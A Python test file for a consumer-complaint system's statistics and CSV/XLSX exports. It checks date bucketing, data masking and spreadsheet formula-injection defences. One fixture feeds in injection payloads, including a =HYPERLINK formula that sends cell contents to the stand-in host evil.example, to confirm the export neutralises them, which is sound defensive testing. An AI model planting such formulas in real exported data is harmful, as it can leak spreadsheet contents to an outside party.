"""Statistics (SPEC W2) and exports (K6, CASES K-17, K-18)."""
import csv
import io
from datetime import date, datetime, timezone

import pytest
from openpyxl import load_workbook

from creditstreet.domain.complaints import Outcome
from creditstreet.services import complaint_stats as stats
from creditstreet.services import complaints as svc
from tests import factories

JUL = datetime(2026, 7, 10, 2, tzinfo=timezone.utc)
# 2026-07-31 16:30 UTC = 08-01 00:30 Beijing: belongs to August in the street's zone.
AUG_EDGE = datetime(2026, 7, 31, 16, 30, tzinfo=timezone.utc)


@pytest.fixture
def world(db, street):
    shop = factories.make_shop(street, "张记面馆")
    insp = factories.make_user("inspector", street=street)

    def file(now, **kw):
        data = {"shop_id": shop.id, "description": "x", "consumer_phone": "13800138000", "goods_category": "食品"}
        data.update(kw)
        return svc.file_complaint(None, street, data, None, now=now)[0]

    a = file(JUL)
    svc.accept_complaint(insp, a, now=JUL)
    svc.close_complaint(insp, a, Outcome("agreement", {"refund"}, 2800), shop_at_fault=True, now=JUL)
    b = file(JUL, goods_category="服装鞋帽")
    svc.accept_complaint(insp, b, now=JUL)
    svc.close_complaint(insp, b, Outcome("no_agreement"), now=JUL)
    file(JUL, description="另一件事")  # received only (different content: the same text within 30 minutes is one complaint, K7)
    file(JUL, kind="inquiry")
    file(AUG_EDGE, kind="report")
    db.session.commit()
    return {"shop": shop, "inspector": insp}


def test_by_month_in_street_zone(db, street, world):
    rows = stats.by_month(street, date(2026, 7, 1), 2)
    jul, aug = rows
    # July: 3 complaints received, 2 accepted, 2 mediated (agreement + no agreement), 1 success → 50.0 %,
    # 28.00 yuan recovered, 1 inquiry; the report filed at 00:30 Beijing on 08-01 counts in August.
    assert (jul.key, jul.received, jul.accepted, jul.mediated, jul.success) == ("2026-07", 3, 2, 2, 1)
    assert str(jul.success_rate) == "50.0" and jul.recovered_fen == 2800 and jul.inquiries == 1 and jul.reports == 0
    assert (aug.key, aug.received, aug.reports, aug.success_rate) == ("2026-08", 0, 1, None)


def test_by_category(db, street, world):
    rows = {r.key: r for r in stats.by_category(street, date(2026, 7, 1), 2)}
    # 食品: a (agreement), the received-only one, the inquiry and the report → received 2; 服装鞋帽: b.
    assert rows["食品"].received == 2 and rows["食品"].success == 1 and rows["食品"].inquiries == 1
    assert rows["服装鞋帽"].received == 1 and rows["服装鞋帽"].mediated == 1 and rows["服装鞋帽"].success == 0


def test_stats_page_has_offline_chart(client, db, login_as, world):
    login_as("inspector")
    html = client.get("/admin/complaint-stats/?from=2026-07").get_data(as_text=True)
    assert "<svg" in html and "<rect" in html and "https://" not in html.split("<main")[1]
    assert "50.0%" in html and "28.00" in html


def _k17(db, street, shop):
    insp = factories.make_user("inspector", street=street)
    rows = [("=HYPERLINK(\"http://evil.example/?d=\"&A2,\"点击查看\")", "王小明"), ("-退款未到账", "@SUM(1+1)"),
            ("+1 差评", "李四"), ("\t开头是制表符", "赵五")]
    made = []
    for text, name in rows:
        c = svc.file_complaint(None, street, {"shop_id": shop.id, "description": text, "consumer_name": name,
                                              "consumer_phone": "13800138000", "amount": "28"}, None, now=JUL)[0]
        made.append(c)
    made[3].description = "\t开头是制表符"  # intake strips outer whitespace; an imported row may not
    svc.accept_complaint(insp, made[0], now=JUL)
    svc.close_complaint(insp, made[0], Outcome("agreement", {"refund"}, 2800), now=JUL)
    db.session.commit()
    return made


def test_csv_export_bom_formulas_numbers_and_masking(client, db, login_as, street):
    shop = factories.make_shop(street, "张记面馆")
    made = _k17(db, street, shop)
    login_as("inspector")
    resp = client.get("/admin/complaint-stats/export.csv?quarter=2026Q3")
    assert resp.status_code == 200
    cd = resp.headers["Content-Disposition"]
    assert cd.startswith("attachment") and "filename*=UTF-8''%E6%8A%95%E8%AF%89%E5%AF%BC%E5%87%BA_2026Q3.csv" in cd
    body = resp.data
    assert body[:3] == b"\xef\xbb\xbf"
    table = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    head = table[0]
    assert head[0] == "投诉编号" and "商户名称" in head
    # SPEC K6 / issue 13: an inspector's export numbers complaints by id and carries no tracking code
    assert not any(c.tracking_code.encode() in body for c in made)
    by_code = {r[0]: dict(zip(head, r)) for r in table[1:]}
    first = by_code[f"#{made[0].id}"]
    assert first["事情经过"].startswith("'=HYPERLINK(")
    assert by_code[f"#{made[1].id}"]["事情经过"] == "'-退款未到账"
    assert by_code[f"#{made[2].id}"]["事情经过"] == "'+1 差评"
    assert by_code[f"#{made[3].id}"]["事情经过"].startswith("'\t")
    assert first["挽回经济损失（元）"] == "28.00" and first["金额（元）"] == "28.00"  # numbers, unprefixed
    # An inspector's export is masked (K6): @SUM's owner shows as "@**" → neutralised "'@**".
    assert by_code[f"#{made[1].id}"]["投诉人"] == "'@**"  # first character + "**" (QA #9)
    assert first["联系电话"] == "138****8000" and b"13800138000" not in body


def test_xlsx_export_text_cells_numeric_money_admin_full(client, db, login_as, street):
    shop = factories.make_shop(street, "张记面馆")
    made = _k17(db, street, shop)
    login_as("admin")
    resp = client.get("/admin/complaint-stats/export.xlsx?quarter=2026Q3")
    assert resp.status_code == 200 and "filename*=UTF-8''" in resp.headers["Content-Disposition"]
    ws = load_workbook(io.BytesIO(resp.data)).active
    head = [c.value for c in ws[1]]
    rows = {r[0].value: {h: c for h, c in zip(head, r)} for r in ws.iter_rows(min_row=2)}
    first = rows[made[0].tracking_code]
    assert first["事情经过"].data_type == "s" and first["事情经过"].value.startswith("=HYPERLINK(")
    assert rows[made[1].tracking_code]["投诉人"].value == "@SUM(1+1)"  # admin sees the full name, as text
    assert rows[made[1].tracking_code]["投诉人"].data_type == "s"
    assert first["挽回经济损失（元）"].data_type == "n" and float(first["挽回经济损失（元）"].value) == 28.0
    assert first["联系电话"].value == "13800138000" and first["联系电话"].data_type == "s"


def test_bad_quarter_is_404(client, login_as):
    login_as("admin")
    assert client.get("/admin/complaint-stats/export.csv?quarter=2026Q5").status_code == 404
    assert client.get("/admin/complaint-stats/export.pdf?quarter=2026Q3").status_code == 404
